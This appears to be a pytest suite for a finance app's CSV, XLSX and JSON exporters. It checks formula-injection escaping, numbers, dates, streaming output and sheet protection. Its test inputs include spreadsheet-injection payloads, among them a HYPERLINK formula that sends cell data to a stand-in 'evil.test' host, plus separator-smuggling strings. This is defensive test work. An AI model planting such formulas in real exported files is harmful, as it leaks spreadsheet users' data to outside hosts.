"""The CSV and XLSX writers every export goes through: formula-safe cells, real numbers,
and rows written as the records come."""

import csv
import io
import json
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from keyfolio.core.exports import (
    FillIn,
    Month,
    csv_lines,
    json_lines,
    records_write_csv,
    records_write_json,
    records_write_xlsx,
)

FIELDS = ("name", "value")
HOSTILE = [
    '=HYPERLINK("http://evil.test?"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(records, fields=FIELDS) -> list[list[str]]:
    buffer = io.StringIO()
    records_write_csv(records, buffer, fields)
    return list(csv.reader(io.StringIO(buffer.getvalue())))


def xlsx_sheet(records, fields=FIELDS):
    data = io.BytesIO()
    records_write_xlsx(records, data, fields, title="Test")
    data.seek(0)
    return openpyxl.load_workbook(data).worksheets[0]


def xlsx_cell(value):
    """The cell a record's `value` becomes, read back with openpyxl."""
    return xlsx_sheet([{"name": value}])["A2"]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_puts_a_quote_before_text_a_spreadsheet_would_run(text):
    assert csv_rows([{"name": text}])[1][0] == "'" + text


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_puts_a_quote_before_text_and_stores_it_as_text(text):
    cell = xlsx_cell(text)
    # XML reads a carriage return back as a line feed; the quote in front is what counts.
    assert cell.value == "'" + text.replace("\r", "\n")
    assert cell.data_type == "s"


@pytest.mark.parametrize("text", ["  =1+1", "\n=1+1", " @SUM(A1)"])
def test_leading_spaces_do_not_hide_a_formula(text):
    assert csv_rows([{"name": text}])[1][0] == "'" + text
    assert xlsx_cell(text).value == "'" + text


@pytest.mark.parametrize("text", ["Northwind", "Acme - Europe", "a=b", "", "'quoted", "#N/A"])
def test_other_text_is_written_as_it_is(text):
    assert csv_rows([{"name": text}])[1][0] == text
    cell = xlsx_cell(text)
    assert cell.value == (text or None)
    if text:
        assert cell.data_type == "s"  # "#N/A" too: text, not an error value.


def test_csv_quotes_every_text_cell_so_that_no_separator_starts_a_new_cell():
    # A semicolon file opened where Excel splits on semicolons, or a quote that tries
    # to close the cell early: the formula stays inside the quoted cell.
    hostile = ["x;=1+1", 'x",=1+1', "x\n=1+1"]
    lines = list(csv_lines(({"name": text} for text in hostile), FIELDS))
    assert lines[1] == '"x;=1+1",""\n'
    assert lines[2] == '"x"",=1+1",""\n'
    assert csv_rows([{"name": text} for text in hostile])[1:] == [[text, ""] for text in hostile]


@pytest.mark.parametrize(
    ("value", "written"),
    [(-12, "-12"), (-12.5, "-12.5"), (Decimal("-800.00"), "-800.00"), (0, "0"), (70.25, "70.25")],
)
def test_csv_leaves_numbers_as_numbers(value, written):
    line = list(csv_lines([{"value": value}], FIELDS))[1]
    assert line == f'"",{written}\n'  # Unquoted: a number, never a quoted text.


@pytest.mark.parametrize("text", ["-12.5", "+3", "-7", "42"])
def test_csv_leaves_text_that_is_a_plain_number_as_it_is(text):
    assert csv_rows([{"value": text}])[1][1] == text


@pytest.mark.parametrize("text", ["-12.5.1", "-1e5", "-12,5", "- 12"])
def test_csv_neutralises_text_that_only_starts_like_a_number(text):
    assert csv_rows([{"value": text}])[1][1] == "'" + text


@pytest.mark.parametrize("value", [-12, -12.5, Decimal("-800.50"), 0, 85])
def test_xlsx_writes_numbers_as_number_cells(value):
    cell = xlsx_cell(value)
    assert cell.data_type == "n"
    assert cell.value == value


def test_xlsx_writes_text_that_looks_like_a_negative_number_as_quoted_text():
    # An account or a note is text even when it reads "-12.5"; only numbers are numbers.
    cell = xlsx_cell("-12.5")
    assert (cell.value, cell.data_type) == ("'-12.5", "s")


def test_dates_are_iso_text_in_csv_and_date_cells_in_xlsx():
    record = {"name": date(2024, 5, 6), "value": Month(date(2024, 3, 1))}
    assert csv_rows([record])[1] == ["2024-05-06", "2024-03"]
    sheet = xlsx_sheet([record])
    day, month = sheet["A2"], sheet["B2"]
    assert day.is_date and day.value.date() == date(2024, 5, 6)
    assert month.is_date and month.value.date() == date(2024, 3, 1)
    assert month.number_format == "yyyy-mm"


def test_none_and_missing_keys_are_blank_cells():
    assert csv_rows([{"name": None}])[1] == ["", ""]
    sheet = xlsx_sheet([{"name": None}])
    assert (sheet["A2"].value, sheet["B2"].value) == (None, None)


def test_xlsx_drops_characters_a_workbook_cannot_hold():
    assert xlsx_cell("Acme\x00\x07 Ltd").value == "Acme Ltd"


def test_xlsx_has_a_frozen_header_row_and_the_sheet_title():
    sheet = xlsx_sheet([{"name": "Northwind", "value": 1}])
    assert [cell.value for cell in sheet[1]] == list(FIELDS)
    assert sheet["A1"].font.b
    assert sheet.freeze_panes == "A2"
    assert sheet.title == "Test"


def test_both_writers_say_how_many_records_they_wrote():
    records = [{"name": "a"}, {"name": "b"}]
    assert records_write_csv(iter(records), io.StringIO(), FIELDS) == 2
    assert records_write_xlsx(iter(records), io.BytesIO(), FIELDS, title="T") == 2
    assert records_write_csv([], io.StringIO(), FIELDS) == 0


def test_csv_writes_each_line_as_its_record_comes():
    taken = []

    def records():
        for name in ("a", "b", "c"):
            taken.append(name)
            yield {"name": name}

    lines = csv_lines(records(), FIELDS)
    assert next(lines) == '"name","value"\n'
    assert taken == []  # The header needs no record.
    assert next(lines) == '"a",""\n'
    assert taken == ["a"]  # One record read for one line: nothing is gathered first.


def test_json_is_an_array_written_a_record_per_line_as_they_come():
    taken = []

    def records():
        for n, name in enumerate(["Север", "b"]):
            taken.append(name)
            yield {"name": name, "day": date(2024, 3, n + 1), "value": None}

    lines = json_lines(records())
    assert next(lines) == '[\n{"name": "Север", "day": "2024-03-01", "value": null}'
    assert taken == ["Север"]  # One record read for one line: nothing is gathered first.
    stream = io.StringIO()
    stream.write(next(lines) + "".join(lines))
    assert stream.getvalue() == ',\n{"name": "b", "day": "2024-03-02", "value": null}\n]\n'
    written = io.StringIO()
    assert records_write_json(records(), written) == 2
    assert json.loads(written.getvalue()) == [
        {"name": "Север", "day": "2024-03-01", "value": None},
        {"name": "b", "day": "2024-03-02", "value": None},
    ]


def test_json_of_no_records_is_an_empty_array():
    written = io.StringIO()
    assert records_write_json(iter([]), written) == 0
    assert written.getvalue() == "[]\n"


def test_xlsx_takes_records_from_a_generator():
    sheet = xlsx_sheet({"name": f"Account {n}", "value": n} for n in range(3))
    assert [row for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        ("Account 0", 0),
        ("Account 1", 1),
        ("Account 2", 2),
    ]


def test_a_sheet_title_loses_the_characters_excel_refuses():
    data = io.BytesIO()
    records_write_xlsx([], data, FIELDS, title="Q1/Q2: [draft]? " + "x" * 40)
    data.seek(0)
    title = openpyxl.load_workbook(data).worksheets[0].title
    assert len(title) <= 31 and not set(title) & set("/\\?*:[]")


def test_xlsx_to_fill_in_locks_the_header_only_and_guides_its_columns():
    data = io.BytesIO()
    fill_in = {"value": FillIn(comment="How much", minimum=0, maximum=10, error="0 to 10")}
    records_write_xlsx([{"name": "a", "value": None}], data, FIELDS, title="T", fill_in=fill_in)
    data.seek(0)
    sheet = openpyxl.load_workbook(data).worksheets[0]
    assert sheet.protection.sheet
    assert [cell.protection.locked for cell in sheet[1]] == [True, True]
    assert [cell.protection.locked for cell in sheet[2]] == [False, False]
    assert sheet["B1"].comment.text == "How much" and sheet["A1"].comment is None
    [validation] = sheet.data_validations.dataValidation
    assert (str(validation.sqref), validation.formula1, validation.formula2) == (
        "B2:B1048576",
        "0",
        "10",
    )
    assert validation.error == "0 to 10"


def test_xlsx_not_to_fill_in_is_not_protected():
    assert not xlsx_sheet([{"name": "a"}]).protection.sheet
